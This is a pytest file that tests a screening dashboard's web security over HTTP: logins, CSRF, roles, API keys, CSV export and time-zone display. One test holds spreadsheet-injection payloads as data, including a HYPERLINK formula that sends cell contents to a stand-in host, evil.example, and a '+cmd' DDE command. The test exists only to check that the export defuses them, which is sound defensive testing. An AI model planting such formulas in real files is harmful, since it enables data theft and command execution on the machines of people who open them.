"""The web side over real HTTP (uvicorn on a free port): login, sessions, CSRF, the
read-only role, API keys, CSV export and --no-auth."""

from __future__ import annotations

import csv
import http.cookiejar
import io
import json
import re
import time
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

from sqlalchemy import update
from sqlalchemy.orm import Session

from dashboard import auth
from dashboard.alert_service import AlertService
from dashboard.alert_settings import load_alert_settings
from dashboard.db import utc_now
from dashboard.models import Device, FollowUp, Result
from dashboard.store import Batch, FleetStore, Received, parse_time
from sarco_core.wire import schema
from tests.support.dashboard import health_figures, result_payload, status_payload, update_outcome
from tests.support.dashboard_web import STAFF_PASSWORD, Browser, serving


def _cookie(name: str, value: str) -> http.cookiejar.Cookie:
    return http.cookiejar.Cookie(0, name, value, None, False, "127.0.0.1", False, False, "/",
                                 True, False, None, False, None, None, {})


def _csrf(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def test_password_hashes_verify_only_the_right_password():
    hashed = auth.hash_password(STAFF_PASSWORD)
    assert hashed.startswith("scrypt$") and STAFF_PASSWORD not in hashed
    assert auth.verify_password(STAFF_PASSWORD, hashed)
    assert not auth.verify_password(STAFF_PASSWORD + "x", hashed)
    assert auth.hash_password(STAFF_PASSWORD) != hashed  # salted


def test_login_sessions_csrf_and_roles(stored):
    engine, payloads = stored
    with serving(engine) as base:
        anonymous = Browser(base)
        status, headers, _ = anonymous.request("/")
        assert (status, headers["location"]) == (303, "/login")
        assert anonymous.login("nurse", "wrong password") == "/login?failed=true"

        nurse = Browser(base)
        assert nurse.login("nurse", STAFF_PASSWORD) == "/"
        status, headers, page = nurse.request("/")
        assert status == 200 and "SCR-0001" in page
        assert "default-src 'self'" in headers["content-security-policy"]
        positive = payloads[0]["result_id"]
        follow_up = f"/referrals/{positive}/follow-up"
        assert nurse.request(follow_up, {"csrf": "forged"})[0] == 403
        assert nurse.request(follow_up, {"csrf": _csrf(page)})[0] == 303
        assert "done by nurse" in nurse.request("/")[2]

        viewer = Browser(base)
        viewer.login("viewer", STAFF_PASSWORD)
        page = viewer.request("/")[2]
        assert "Mark referred" not in page
        other = payloads[2]["result_id"]
        assert viewer.request(f"/referrals/{other}/follow-up", {"csrf": _csrf(page)})[0] == 403

        # a login form posted without its cookie (another site's form) is refused
        assert Browser(base).request("/login", {"username": "nurse",
                                                "password": STAFF_PASSWORD,
                                                "csrf": "x"})[0] == 403

        page = nurse.request("/")[2]
        assert nurse.request("/logout", {"csrf": _csrf(page)})[0] == 303
        assert nurse.request("/")[0] == 303  # the session is gone


def test_api_needs_a_valid_key_and_answers_the_summary(stored):
    engine, payloads = stored
    with Session(engine) as session:
        key = auth.create_api_key(session, "registry")
        session.commit()
    with serving(engine) as base:
        client = Browser(base)
        assert client.request("/api/v1/summary")[0] == 401
        assert client.request("/api/v1/summary", headers={"X-API-Key": key + "x"})[0] == 401
        status, _, body = client.request("/api/v1/summary", headers={"X-API-Key": key})
        summary = json.loads(body)
        assert status == 200
        assert summary["results_total"] == 3
        assert summary["devices_online"] == 0
        assert {s["site"] for s in summary["sites"]} == {"site-01", "site-02"}
        referrals = json.loads(client.request("/api/v1/referrals?site=site-02",
                                              headers={"X-API-Key": key})[2])
        assert [r["result_id"] for r in referrals] == [payloads[2]["result_id"]]
        page = json.loads(client.request("/api/v1/results?limit=2",
                                         headers={"X-API-Key": key})[2])
        rest = json.loads(client.request(f"/api/v1/results?after_id={page['next_after_id']}",
                                         headers={"X-API-Key": key})[2])
        assert sorted(r["result_id"] for r in page["results"] + rest["results"]) == \
            sorted(p["result_id"] for p in payloads)
        assert rest["next_after_id"] is None
        spec = json.loads(client.request("/openapi.json")[2])
        assert "/api/v1/summary" in spec["paths"]
        assert spec["components"]["securitySchemes"]["APIKeyHeader"]["name"] == "X-API-Key"
        with Session(engine) as session:
            assert auth.revoke_api_key(session, "registry")
            session.commit()
        assert client.request("/api/v1/summary", headers={"X-API-Key": key})[0] == 401


def test_csv_export_follows_the_filters(stored):
    engine, payloads = stored
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        status, headers, body = nurse.request("/export/results.csv?site=site-01")
        assert status == 200 and headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(body)))
        assert sorted(r["result_id"] for r in rows) == sorted(
            p["result_id"] for p in payloads if p["site"] == "site-01")
        referrals = list(csv.DictReader(io.StringIO(nurse.request("/export/referrals.csv")[2])))
        assert sorted(r["screening_id"] for r in referrals) == ["SCR-0001", "SCR-0003"]
        assert nurse.request("/export/results.csv?date_from=2025-13-01")[0] == 400
        assert nurse.request("/export/secrets.csv")[0] == 404
        assert Browser(base).request("/export/results.csv")[0] == 303  # login first


def test_csv_export_defuses_spreadsheet_formulas_but_keeps_numbers(stored):
    engine, payloads = stored
    formulas = {"screening_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
                "app_version": "@SUM(1+1)", "model_name": "+cmd|' /C calc'!A0",
                "model_sha256": "-2+3", "device": "\tus-001"}
    with Session(engine) as session:
        session.execute(update(Result).where(Result.result_id == payloads[0]["result_id"])
                        .values(probability=-0.5, **formulas))
        session.commit()
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        rows = list(csv.DictReader(io.StringIO(nurse.request("/export/results.csv")[2])))
    row = next(r for r in rows if r["result_id"] == payloads[0]["result_id"])
    assert {name: row[name] for name in formulas} == {
        name: "'" + text for name, text in formulas.items()}
    assert row["probability"] == "-0.5" and row["usable_frames"] == "80"


def test_no_auth_mode_opens_everything_and_says_so(stored):
    engine, payloads = stored
    with serving(engine, auth_enabled=False) as base:
        client = Browser(base)
        status, _, page = client.request("/")
        assert status == 200 and "Authentication is OFF" in page
        assert client.request("/api/v1/summary")[0] == 200
        # still no cross-site posts: the form token is required
        positive = payloads[0]["result_id"]
        assert client.request(f"/referrals/{positive}/follow-up", {})[0] == 403


def test_api_gives_device_health_and_its_recent_history_typed(stored):
    engine, _ = stored
    now = time.time()
    statuses = [status_payload("site-01", "us-001", "online", at=now - age,
                               health=health_figures(temp_max_c=temp), update=update_outcome())
                for age, temp in ((60, 80.0), (30, 90.0))]
    FleetStore(engine, "w1").write(Batch(statuses=[Received(p, utc_now()) for p in statuses]),
                                   utc_now())
    with Session(engine) as session:
        key = auth.create_api_key(session, "monitoring")
        session.commit()
    with serving(engine) as base:
        client = Browser(base)

        def get(path: str):  # noqa: ANN202
            status, _, body = client.request(path, headers={"X-API-Key": key})
            return status, json.loads(body)

        devices = {d["device"]: d for d in get("/api/v1/devices")[1]}
        device = devices["us-001"]
        assert device["telemetry"]["temp_max_c"] == 90.0  # the newest status
        assert device["telemetry"]["ram_total_mb"] == 7620
        assert device["update"]["outcome"] == "installed"
        assert device["issues"] == [f"hot ({90.0:.0f} °C)"]
        assert devices["us-002"]["telemetry"] is None  # seen through its results only
        status, history = get("/api/v1/devices/site-01/us-001/telemetry?hours=1")
        assert status == 200 and [h["temp_max_c"] for h in history] == [80.0, 90.0]
        assert get("/api/v1/devices/site-01/us-999/telemetry")[0] == 404
        assert get("/api/v1/devices/site-01/us-001/telemetry?hours=48")[0] == 422
        schemas = get("/openapi.json")[1]["components"]["schemas"]
        assert schemas["Telemetry"]["properties"]["temp_max_c"]["anyOf"][0]["type"] == "number"
        assert schemas["ModelUpdate"]["properties"]["outcome"]["enum"] == list(
            schema.UPDATE_OUTCOMES)
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        page = nurse.request("/")[2]
        row = re.search(r'<tr class="warn" data-device="us-001">.*?</tr>', page, re.DOTALL)
        assert row and "90 °C" in row.group(0) and "hot (90 °C)" in row.group(0)


def _local(moment: datetime, zone: str) -> str:
    return moment.replace(tzinfo=timezone.utc).astimezone(ZoneInfo(zone)).strftime(
        "%Y-%m-%d %H:%M")


def test_the_status_history_shows_a_clean_switch_off_as_offline_in_the_viewers_zone(stored):
    """Switched off cleanly 17 to 14 minutes ago, on again since: the history says so
    (it used to show one online period across the gap, which is shorter than 5 min)."""
    engine, _ = stored
    now = float(int(time.time()))
    store = FleetStore(engine, "w1")

    def status(state: str, minutes_ago: float, device: str = "us-001") -> Received:
        return Received(status_payload("site-01", device, state, now - minutes_ago * 60,
                                       health=health_figures()), utc_now())

    store.write(Batch(statuses=[status("online", m / 2) for m in range(60, 34, -1)]
                      + [status("offline", 17)]
                      + [status("online", m / 2) for m in range(28, -1, -1)]
                      + [status("online", 5, device="us-002")]), utc_now())
    zone = "Pacific/Auckland"

    def at(minutes_ago: float) -> str:
        return _local(parse_time(schema.utc_timestamp(now - minutes_ago * 60)), zone)

    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        page = nurse.request(f"/devices/site-01/us-001?tz={zone}")[2]
        history = re.search(r'<ul class="periods" id="status-history">(.*?)</ul>', page,
                            re.DOTALL).group(1)
        items = [" ".join(re.sub(r"<[^>]+>", " ", item).split())
                 for item in re.findall(r"<li.*?</li>", history, re.DOTALL)]
        assert items == [f"● online {at(14)} – now (29 statuses)",
                         f"✕ offline switched off {at(17)} – {at(14)}",
                         f"● online {at(30)} – {at(17)} (26 statuses)"]
        page = nurse.request(f"/devices/site-01/us-002?tz={zone}")[2]
        assert "(1 status)" in page and "1 statuses" not in page


def test_pages_answer_errors_with_a_page_and_the_api_with_json(stored):
    engine, _ = stored
    with Session(engine) as session:
        key = auth.create_api_key(session, "registry")
        session.commit()
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        for path, status, message in (
                ("/users", 403, "only admins manage accounts and API keys"),
                ("/referrals?state=bogus", 400, "state: one of open, overdue, referred, all"),
                ("/devices/site-01/us-001?page=many", 422, "page: Input should be a valid "
                                                          "integer"),
                ("/devices/site-01/us-404", 404, "no device &#39;us-404&#39; at site"),
                ("/no-such-page", 404, "Not Found")):
            code, headers, page = nurse.request(path, headers={"Referer": base + "/trends"})
            assert (code, headers["content-type"]) == (status, "text/html; charset=utf-8")
            assert message in page and 'id="error-message"' in page
            # the layout, with the navigation of a logged-in user
            assert '<nav class="nav" aria-label="Pages">' in page and "nurse" in page
            assert f'<a href="{base}/trends" id="error-back">Back to the previous page' in page
        assert '<a href="/" id="error-back">Back to the fleet' in nurse.request("/users")[2]
        # a form refused: the message, not JSON
        code, _, page = nurse.request("/referrals/nope/follow-up", {"csrf": "forged"})
        assert code == 403 and "CSRF token is missing or stale" in page and "{" not in page

        api = Browser(base)
        for path, status in (("/api/v1/devices/site-01/us-404/telemetry", 404),
                             ("/api/v1/devices/site-01/us-001/telemetry?hours=48", 422),
                             ("/api/v1/trends?tz=Mars/Olympus", 400)):
            code, headers, body = api.request(path, headers={"X-API-Key": key})
            assert (code, headers["content-type"]) == (status, "application/json")
            assert "detail" in json.loads(body)
        assert json.loads(api.request("/api/v1/summary")[2]) == {
            "detail": "missing or invalid API key (header X-API-Key)"}
    with serving(engine, auth_enabled=False) as base:
        code, headers, page = Browser(base).request("/users")
        assert (code, headers["content-type"]) == (403, "text/html; charset=utf-8")
        assert "only admins manage accounts and API keys" in page
        assert "Authentication is OFF" in page


def test_an_outcome_must_be_chosen_it_is_not_preselected(stored):
    engine, payloads = stored
    positive = payloads[0]["result_id"]
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        csrf = _csrf(nurse.request("/referrals")[2])
        assert nurse.request(f"/referrals/{positive}/follow-up", {"csrf": csrf})[0] == 303
        page = nurse.request("/referrals?state=referred")[2]
        select = re.search(r'<select name="outcome"[^>]*>(.*?)</select>', page, re.DOTALL)
        assert "required" in select.group(0)
        first = re.search(r"<option ([^>]*)>([^<]*)</option>", select.group(1))
        assert first.groups() == ('value="" selected', "choose an outcome…")
        code, _, page = nurse.request(f"/referrals/{positive}/outcome",
                                      {"csrf": csrf, "outcome": ""})
        assert code == 400 and "choose an outcome from the list first" in page
        with Session(engine) as session:
            assert session.get(FollowUp, positive).outcome is None
        assert nurse.request(f"/referrals/{positive}/outcome",
                             {"csrf": csrf, "outcome": "declined"})[0] == 303


def test_the_favicon_is_served(stored):
    engine, _ = stored
    with serving(engine) as base:
        client = Browser(base)
        for path in ("/static/favicon.svg", "/favicon.ico"):
            code, headers, body = client.request(path)
            assert (code, headers["content-type"]) == (200, "image/svg+xml")
            assert body.startswith("<svg")
        client.login("nurse", STAFF_PASSWORD)
        assert '<link rel="icon" href="/static/favicon.svg"' in client.request("/")[2]


def test_every_page_counts_the_same_days_in_the_viewers_zone_and_says_it_once(stored):
    """Viewed from Auckland (UTC+13 in December) a result that ended at 12:30 UTC belongs
    to the next day there: the fleet's filters, tiles and table count it on that day, as the
    trends and the site page do, and no page mixes in UTC days."""
    engine, _ = stored
    zone = "Pacific/Auckland"
    evening = datetime(2026, 12, 5, 12, 30, tzinfo=timezone.utc).timestamp()
    store = FleetStore(engine, "w1")
    store.write(Batch(results=[Received(result_payload(
        site="site-03", device="us-003", seq=10 + n, decision="sarcopenia",
        probability=0.8, score_logit=0.0, ended_at=evening - n * 3600), utc_now())
        for n in range(3)]), utc_now())  # 12:30, 11:30 and 10:30 UTC: 6 and 5 Dec there
    range_ = "date_from=2026-12-05&date_to=2026-12-06"
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        nurse.jar.set_cookie(_cookie("sarco_tz", zone))
        page = nurse.request(f"/?site=site-03&{range_}")[2]
        daily = re.findall(r"<tr><td>(2026-12-0\d)</td><td>site-03</td><td class=\"num\">"
                           r"(\d+)</td>", page)
        assert daily == [("2026-12-06", "2"), ("2026-12-05", "1")]
        assert re.search(r'id="screened">3<', page)
        assert f"Days and times in <strong>{zone}</strong>, your browser's time zone" in page
        assert "UTC" not in re.sub(r"<[^>]+>", "", page)
        only_the_6th = nurse.request("/?site=site-03&date_from=2026-12-06&"
                                     "date_to=2026-12-06")[2]
        assert re.search(r'id="screened">2<', only_the_6th)
        csv_rows = list(csv.DictReader(io.StringIO(nurse.request(
            f"/export/daily.csv?site=site-03&{range_}")[2])))
        assert [(r["day"], r["screened"]) for r in csv_rows] == [("2026-12-06", "2"),
                                                                 ("2026-12-05", "1")]
        site = nurse.request(f"/sites/site-03?{range_}")[2]
        assert "today (UTC)" not in site and "UTC" not in re.sub(r"<[^>]+>", "", site)
        trend_table = re.findall(r"<tr><td>(2026-12-0\d)</td><td>site-03</td><td class=\"num\">"
                                 r"(\d+)</td>", site)
        assert trend_table == [("2026-12-06", "2"), ("2026-12-05", "1")]
        for path in ("/trends", "/referrals", "/alerts", "/devices/site-01/us-001"):
            text = re.sub(r"<[^>]+>", "", nurse.request(path)[2])
            assert zone in text and "UTC" not in text, path
        # the API keeps UTC days
        with Session(engine) as session:
            key = auth.create_api_key(session, "registry")
            session.commit()
        daily_api = json.loads(Browser(base).request(
            f"/api/v1/daily?site=site-03&{range_}", headers={"X-API-Key": key})[2])
        assert [(d["day"], d["screened"]) for d in daily_api] == [("2026-12-05", 3)]


def test_one_default_range_of_30_days_said_on_each_page_and_the_zone_as_reported(stored):
    engine, _ = stored
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        # no zone reported (a browser without JavaScript): UTC, and the page says why
        today = utc_now().date()
        start = today - timedelta(days=29)
        for path in ("/", "/trends", "/sites/site-01"):
            page = nurse.request(path)[2]
            assert 'name="date_from"' in page and f'value="{start}"' in page, path
            assert f'value="{today}"' in page, path
            assert "Without dates the range is the last 30 days" in page, path
            assert "your browser did not report a time zone" in page, path
        # a browser that reports UTC did report it
        nurse.jar.set_cookie(_cookie("sarco_tz", "UTC"))
        page = nurse.request("/trends")[2]
        assert "your browser did not report" not in page
        assert "<strong>UTC</strong>, your browser's time zone" in page


def test_unresolved_alerts_show_in_the_navigation_on_the_device_and_on_its_site(stored):
    engine, _ = stored
    now = time.time()
    FleetStore(engine, "w1").write(Batch(statuses=[
        Received(status_payload("site-01", "us-001", "online", now - 3600), utc_now()),
        Received(status_payload("site-01", "us-001", "offline", None), utc_now()),
        Received(status_payload("site-02", "us-002", "online", now, queued=60), utc_now())]),
        utc_now())
    with Session(engine) as session:
        session.execute(update(Device).where(Device.device == "us-001").values(
            last_seen_at=utc_now() - timedelta(minutes=40)))
        session.commit()
    AlertService(engine, load_alert_settings()).evaluate()
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        for path in ("/", "/trends", "/referrals", "/devices/site-02/us-002"):
            page = nurse.request(path)[2]
            assert re.search(r'id="alert-count"[^>]*>2<', page), path
        fleet = nurse.request("/")[2]
        tile = re.search(r'<a class="device offline warn" href="/devices/site-01/us-001".*?</a>',
                         fleet, re.DOTALL).group(0)
        assert "⚠ alert: Device offline" in tile
        assert re.search(r'<p class="attention" data-site="site-02">⚠ needs attention: '
                         r'Outbox backlog \(us-002\)', fleet)
        site = nurse.request("/sites/site-01")[2]
        assert "⚠ needs attention: Device offline (us-001)" in site
        device = nurse.request("/devices/site-01/us-001")[2]
        box = re.search(r'id="device-alerts">(.*?)</section>', device, re.DOTALL).group(1)
        assert "Device offline" in box and re.search(
            r"connection lost; no contact since \d{4}-\d\d-\d\d \d\d:\d\d \(4[01] min ago\)",
            box)
        other = nurse.request("/devices/site-02/us-002")[2]
        assert re.search(r'id="device-alerts">.*Outbox backlog.*60 results waiting', other,
                         re.DOTALL)
